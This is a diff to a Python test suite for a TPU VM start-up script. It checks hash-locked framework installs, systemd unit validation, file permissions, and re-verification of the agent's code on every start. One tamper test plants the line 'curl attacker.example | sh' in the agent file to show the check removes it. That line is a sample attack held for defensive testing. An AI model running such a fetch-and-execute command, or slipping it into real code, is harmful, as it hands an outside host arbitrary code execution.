@@ -6,6 +6,8 @@ from __future__ import annotations
 import dataclasses
 import io
 import os
+import re
+import shlex
 import shutil
 import subprocess
 import sys
@@ -16,6 +18,7 @@ from pathlib import Path
 import pytest
 
 from infra import naming
+from infra.catalog import framework_lock, load_catalog
 from infra.config import parse_stack_config
 from infra.packaging import repository_folder
 from infra.schema import ConfigError
@@ -73,8 +76,54 @@ def test_installs_the_version_pinned_for_the_runtime_only_when_missing():
     assert 'if [[ "${installed}" == "${FRAMEWORK_VERSION}" ]]; then' in dev
     # tensorflow-tpu is on the package index only from 2.16.1: before, a missing TF is a FATAL, no pip.
     assert "pip install" not in dev and 'fatal "tensorflow ${FRAMEWORK_VERSION} is not installed' in dev
+    # From 2.16.1 it is, but the boot installs only by hash: without the catalog's lock for it, a FATAL too.
     newer = render_startup_script(tf_spec("2.16.1", "tpu-vm-tf-2.16.1-pjrt"))
-    assert "'tensorflow-tpu==2.16.1'" in newer and "is not installed (found" not in newer
+    assert "pip install" not in newer and "the catalog has no lock for tensorflow 2.16.1" in newer
+
+
+def jax_spec() -> StartupSpec:
+    jax = {"program": "jax_mnist", "frameworkVersion": "0.10.2"}
+    raw = with_object(stack_config(), "workloads", lambda w: w["mnist"].update(jax))
+    raw = with_object(raw, "tpuVms", lambda v: v[0].update(acceleratorType="v5litepod-4", zone="us-central1-a",
+                                                           runtimeVersion="v2-alpha-tpuv5-lite"))  # fmt: skip
+    cfg = parse_stack_config("dev", raw)
+    return startup_spec(cfg, cfg.tpu_vms[0])
+
+
+def test_the_framework_is_installed_only_by_the_hashes_of_the_catalogs_lock():
+    """jax[tpu] with its libtpu, each file against its sha256 (infra/catalog/framework_locks), no index of
+    Google's, no resolution of pip's own; a release without a lock is refused at boot with the reason."""
+    script = render_startup_script(jax_spec())
+    assert '-m pip install --quiet --require-hashes --no-deps -r "${lock}"' in script
+    assert "jax==0.10.2 --hash=sha256:" in script and "libtpu==" in script
+    assert "-f http" not in script and "jax[tpu]" not in script
+    lines = script.split("<<'TPU_PLATFORM_FRAMEWORK_LOCK'\n")[1].split("TPU_PLATFORM_FRAMEWORK_LOCK\n")[0]
+    assert all(re.fullmatch(r"\S+==\S+( --hash=sha256:[0-9a-f]{64})+", line) for line in lines.splitlines())
+    assert load_catalog().install_problem("jax", "0.4.35") == (
+        "the boot installs jax only by hash and the catalog has no lock for jax 0.4.35 (infra/catalog/"
+        "framework_locks/jax-0.4.35.txt, then make lock): the runtime image must carry it, or pin a release with a lock"
+    )
+
+
+# An image with Python 3.11 and no JAX: its pip records what it is asked and "installs" the lock's JAX.
+JAXLESS_IMAGE = """#!/bin/bash
+here="$(dirname "$0")"
+case "$*" in
+  *version_info*) exit 0 ;;
+  *"import jax"*) [[ -f "${here}/installed" ]] && echo 0.10.2; exit 0 ;;
+  *"-m pip"*) echo "$*" >> "${here}/pip-called"; cp "${@: -1}" "${here}/lock"; touch "${here}/installed" ;;
+  *) exit 1 ;;
+esac
+"""
+
+
+def test_a_boot_without_the_framework_installs_the_lock_and_nothing_else(tmp_path):
+    done, folder = boot_with(render_startup_script(jax_spec()), JAXLESS_IMAGE, tmp_path)
+    assert "installing jax 0.10.2 by hash (found: none)" in done.stdout, done.stderr
+    (call,) = (folder / "shims" / "pip-called").read_text().splitlines()
+    assert call.startswith("-m pip install --quiet --require-hashes --no-deps -r ")
+    assert (folder / "shims" / "lock").read_text() == framework_lock("jax", "0.10.2")
+    assert not Path(call.rsplit(" ", 1)[1]).exists()  # the temporary lock is gone
 
 
 def test_a_workload_naming_no_framework_checks_and_installs_none():
@@ -97,6 +146,30 @@ def tf_spec(version: str, runtime: str, accelerator: str | None = None) -> Start
 
 def unit_of(script: str) -> str:
     return script.split("<<'TPU_PLATFORM_UNIT'\n")[1].split("TPU_PLATFORM_UNIT\n")[0]
+
+
+SYSTEMD_ANALYZE = shutil.which("systemd-analyze")
+
+
+@pytest.mark.parametrize("stack", ["dev", "prod"])
+def test_the_rendered_unit_passes_systemd_analyze_verify_without_a_warning(stack, tmp_path):
+    """systemd's own parser reads the unit as a VM would have it (placeholders filled in as the script fills
+    them): a misspelt key or value, which systemd only warns about and ignores, fails here. The unit is
+    rendered and checked here; no systemd runs it in the tests (the sandbox's systemctl is a shim)."""
+    assert SYSTEMD_ANALYZE, "systemd-analyze is missing: install Debian's systemd package (README, Development)"
+    folder = tmp_path / "vm"
+    (folder / "agent").mkdir(parents=True)
+    (folder / "agent.env").write_text("")
+    unit = unit_of(render_startup_script(spec(stack)))
+    filled = {"@ENV_FILE@": folder / "agent.env", "@PYTHON@": sys.executable, "@AGENT_DIR@": folder / "agent",
+              "@AGENT_ARCHIVE@": folder / "agent.tar.gz"}  # fmt: skip
+    for placeholder, value in filled.items():
+        unit = unit.replace(placeholder, str(value))
+    path = folder / AGENT_UNIT
+    path.write_text(unit)
+    verify = [SYSTEMD_ANALYZE, "verify", "--man=no", str(path)]
+    done = subprocess.run(verify, capture_output=True, text=True, cwd=folder)
+    assert done.returncode == 0 and done.stdout + done.stderr == "", done.stdout + done.stderr
 
 
 def test_each_tensorflow_runtime_gets_its_environment_in_the_unit():
@@ -136,7 +209,7 @@ def boot_with(
 ) -> tuple[subprocess.CompletedProcess[str], Path]:
     """Run the start-up script against a stand-in for the image's python3; systemctl only records."""
     shims = tmp_path / "shims"
-    shims.mkdir(parents=True)
+    shims.mkdir(parents=True, exist_ok=True)  # a second boot of the same VM
     (shims / "python3").write_text(python_shim)
     (shims / "systemctl").write_text(f'#!/bin/sh\necho "$@" >> {tmp_path}/systemctl\n')
     (shims / "pip-called").write_text("")
@@ -333,14 +406,22 @@ def boot(
     return done, dict(line.split("=", 1) for line in lines)
 
 
+def start_checks(tmp_path: Path) -> subprocess.CompletedProcess[str]:
+    """What systemd runs before each start of the agent: the unit's ExecStartPre, as rendered on this VM."""
+    unit = (tmp_path / f"root/etc/systemd/system/{AGENT_UNIT}").read_text()
+    (pre,) = re.findall(r"^ExecStartPre=(.*)$", unit, re.M)
+    return subprocess.run(shlex.split(pre), capture_output=True, text=True, timeout=60)
+
+
 def test_the_agent_is_fetched_verified_and_started_from_its_own_folder(tmp_path, artifacts):
     of = spec()
     done, env = boot(tmp_path, {"agent-worker-number": "0"}, artifacts)
     assert done.returncode == 0, done.stderr
     agent = tmp_path / "root/opt/tpu-platform/agent" / of.agent.sha256
-    assert (agent / ".verified").exists() and (agent / "vm_agent/__main__.py").read_text() == (
-        ROOT / "vm_agent/__main__.py"
-    ).read_text()
+    archive = agent.with_name(f"{of.agent.sha256}.tar.gz")
+    assert archive.stat().st_mode & 0o777 == 0o600 and archive.parent.stat().st_mode & 0o777 == 0o700  # root's alone
+    assert start_checks(tmp_path).returncode == 0  # each start of the unit unpacks the verified archive
+    assert (agent / "vm_agent/__main__.py").read_text() == (ROOT / "vm_agent/__main__.py").read_text()
     # Links in the package (none leave the repository) arrive as the files they point to.
     assert not any(path.is_symlink() for path in agent.rglob("*"))
     unit = (tmp_path / f"root/etc/systemd/system/{AGENT_UNIT}").read_text()
@@ -348,10 +429,32 @@ def test_the_agent_is_fetched_verified_and_started_from_its_own_folder(tmp_path,
     assert f"EnvironmentFile={tmp_path}/root/etc/tpu-platform/agent.env\n" in unit
     assert (tmp_path / "systemctl").read_text() == f"daemon-reload\nstart {AGENT_UNIT}\n"
     assert (tmp_path / "shims/version-asked").exists()  # an example's framework is checked
-    # agent.env: the stack's settings from metadata, then what the boot knows of this VM.
+    # agent.env: the stack's settings from metadata, then what the boot knows of this VM; root's alone.
     assert env["TPU_PLATFORM_STACK"] == "dev" and env["TPU_PLATFORM_PYTHON"].endswith("shims/python3")
     assert env["TPU_PLATFORM_ROOT"] == f"{tmp_path}/root" and env["STORAGE_EMULATOR_HOST"] == artifacts
-    assert not (agent.parent / f"{of.agent.sha256}.tar.gz").exists()  # the download is not kept
+    assert (tmp_path / "root/etc/tpu-platform/agent.env").stat().st_mode & 0o777 == 0o600
+
+
+def test_edited_agent_code_does_not_survive_a_restart_and_a_changed_archive_starts_nothing(tmp_path, artifacts):
+    """The agent's code is checked against its digest on every start of the unit, not once per VM: an
+    edit of the unpacked files is gone after the next start, and an archive that no longer matches the
+    digest stops the agent from starting (exit 78, no restart loop)."""
+    of = spec()
+    done, _ = boot(tmp_path, {"agent-worker-number": "0"}, artifacts)
+    assert done.returncode == 0, done.stderr
+    assert start_checks(tmp_path).returncode == 0
+    agent = tmp_path / "root/opt/tpu-platform/agent" / of.agent.sha256
+    planted = agent / "vm_agent/__main__.py"
+    planted.write_text("import os\nos.system('curl attacker.example | sh')\n")
+    assert start_checks(tmp_path).returncode == 0  # the unit restarts (Restart=on-failure, a reboot)
+    assert planted.read_text() == (ROOT / "vm_agent/__main__.py").read_text()
+    archive = agent.with_name(f"{of.agent.sha256}.tar.gz")
+    archive.write_bytes(tampered_agent(archive.read_bytes()))
+    checked = start_checks(tmp_path)
+    assert checked.returncode == EXIT_CONFIG and "does not match" in checked.stderr
+    # The next boot fetches the archive again, by its digest, rather than trusting what it finds.
+    done, _ = boot(tmp_path, {"agent-worker-number": "0"}, artifacts)
+    assert done.returncode == 0 and start_checks(tmp_path).returncode == 0
 
 
 def test_a_tampered_agent_is_refused_and_nothing_starts(tmp_path, artifacts):
